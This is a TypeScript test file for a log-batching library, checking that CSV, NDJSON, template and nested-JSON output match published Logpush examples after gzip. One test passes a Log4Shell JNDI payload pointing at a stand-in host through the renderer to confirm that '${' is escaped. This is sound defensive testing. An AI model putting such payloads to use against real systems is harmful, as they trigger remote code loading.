// Whole batches from job output_options: the published Logpush examples byte for byte, through gzip, and CVE-2021-44228.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { gunzipSync } from 'node:zlib';
import { getDataset } from '@sluice/schemas';
import type { DatasetRecord } from '@sluice/schemas';
import { createGzipBatch } from '../../src/batch/gzip-batch.js';
import { createRecordRenderer, framingFor } from '../../src/render/create-renderer.js';
import { resolveOutputFormat } from '../../src/render/output-format.js';
import type { OutputOptionsDocument } from '../../src/job/job-schema.js';

const dataset = getDataset('http_requests');
const FIELDS = ['ClientIP', 'EdgeStartTimestamp', 'RayID'];
const PUBLISHED: DatasetRecord = { ClientIP: '89.163.242.206', EdgeStartTimestamp: 1506702504433000200n, RayID: '3a6050bcbe121a87', ClientASN: 3320 };
const THREE = [PUBLISHED, PUBLISHED, PUBLISHED];

/** Renders records as a job with these output_options would, seals the batch and returns its text. */
async function batchText(options: OutputOptionsDocument & { field_names: string[] }, records: readonly DatasetRecord[]): Promise<string> {
  const format = resolveOutputFormat(options);
  const render = createRecordRenderer(dataset, { fieldNames: options.field_names, format });
  const batch = createGzipBatch(framingFor(format), 0);
  records.forEach((record, i) => batch.add(render(record), i, 0));
  const sealed = await batch.seal();
  const text = gunzipSync(sealed.body).toString('utf8');
  assert.equal(sealed.uncompressedBytes, Buffer.byteLength(text));
  return text;
}

test('default NDJSON: one published line per record', async () => {
  const line = '{"ClientIP":"89.163.242.206","EdgeStartTimestamp":1506702504433000200,"RayID":"3a6050bcbe121a87"}\n';
  assert.equal(await batchText({ field_names: FIELDS }, THREE), line.repeat(3));
});

test('NDJSON with the published record_template', async () => {
  const text = await batchText(
    { field_names: FIELDS, record_template: '"client-ip":{{.ClientIP}},"timestamp":{{.EdgeStartTimestamp}},"ray-id":{{.RayID}}' },
    THREE,
  );
  assert.equal(text, '{"client-ip":"89.163.242.206","timestamp":1506702504433000200,"ray-id":"3a6050bcbe121a87"}\n'.repeat(3));
});

test('CSV: values only, strings quoted', async () => {
  assert.equal(await batchText({ field_names: FIELDS, output_type: 'csv' }, THREE), '"89.163.242.206",1506702504433000200,"3a6050bcbe121a87"\n'.repeat(3));
});

test('CSV with a header line from batch_prefix', async () => {
  const text = await batchText({ field_names: FIELDS, output_type: 'csv', batch_prefix: 'ClientIP,EdgeStartTimestamp,RayID\n' }, THREE);
  assert.equal(text, `ClientIP,EdgeStartTimestamp,RayID\n${'"89.163.242.206",1506702504433000200,"3a6050bcbe121a87"\n'.repeat(3)}`);
});

test('TSV: CSV with a tab field delimiter', async () => {
  const text = await batchText({ field_names: FIELDS, output_type: 'csv', field_delimiter: '\t', batch_prefix: 'ClientIP\tEdgeStartTimestamp\tRayID\n' }, THREE);
  assert.equal(text, `ClientIP\tEdgeStartTimestamp\tRayID\n${'"89.163.242.206"\t1506702504433000200\t"3a6050bcbe121a87"\n'.repeat(3)}`);
});

test('JSON with a nested object: a batch is one JSON document wrapping the records', async () => {
  const options = {
    field_names: FIELDS,
    batch_prefix: '{"events":[',
    batch_suffix: '\n]}\n',
    record_prefix: '\n  {"info":{',
    record_suffix: '}}',
    record_delimiter: ',',
  };
  const info = '{"info":{"ClientIP":"89.163.242.206","EdgeStartTimestamp":1506702504433000200,"RayID":"3a6050bcbe121a87"}}';
  const text = await batchText(options, THREE);
  assert.equal(text, `{"events":[\n  ${info},\n  ${info},\n  ${info}\n]}\n`);
  const one = { ClientIP: '89.163.242.206', EdgeStartTimestamp: Number(1506702504433000200n), RayID: '3a6050bcbe121a87' };
  assert.deepEqual(JSON.parse(text), { events: [{ info: one }, { info: one }, { info: one }] });
});

test('framing comes from the format: batch prefix and suffix, record delimiter, the CVE switch', () => {
  const format = resolveOutputFormat({ batch_prefix: '[', batch_suffix: ']', record_delimiter: ',', 'CVE-2021-4428': true });
  assert.deepEqual(framingFor(format), { batchPrefix: '[', batchSuffix: ']', recordDelimiter: ',', escapeJndi: true });
  assert.deepEqual(framingFor(resolveOutputFormat(undefined)), { batchPrefix: '', batchSuffix: '', recordDelimiter: '', escapeJndi: false });
});

test('CVE-2021-44228: ${ in a value and ${ formed by a delimiter and the next record prefix both become x{', async () => {
  const records = [{ ClientRequestURI: '/${jndi:ldap://evil.example/a}' }, { ClientRequestURI: '/b' }];
  const options = { field_names: ['ClientRequestURI'], record_delimiter: '$', 'CVE-2021-44228': true };
  assert.equal(await batchText(options, records), '{"ClientRequestURI":"/x{jndi:ldap://evil.example/a}"}\nx{"ClientRequestURI":"/b"}\n');
  assert.equal(
    await batchText({ ...options, 'CVE-2021-44228': false }, records),
    '{"ClientRequestURI":"/${jndi:ldap://evil.example/a}"}\n${"ClientRequestURI":"/b"}\n',
    'off unless the job asks',
  );
});

test('the output type chooses the layout; a template overrides it', () => {
  const record = { RayID: 'r' };
  const render = (options: OutputOptionsDocument): string => createRecordRenderer(dataset, { fieldNames: ['RayID'], format: resolveOutputFormat(options) })(record);
  assert.equal(render({}), '{"RayID":"r"}\n');
  assert.equal(render({ output_type: 'csv' }), '"r"\n');
  assert.equal(render({ output_type: 'csv', record_template: 'ray={{.RayID}}' }), 'ray="r"\n');
  assert.equal(render({ output_type: null, timestamp_format: null, record_prefix: null }), '{"RayID":"r"}\n', 'null options mean the defaults');
});
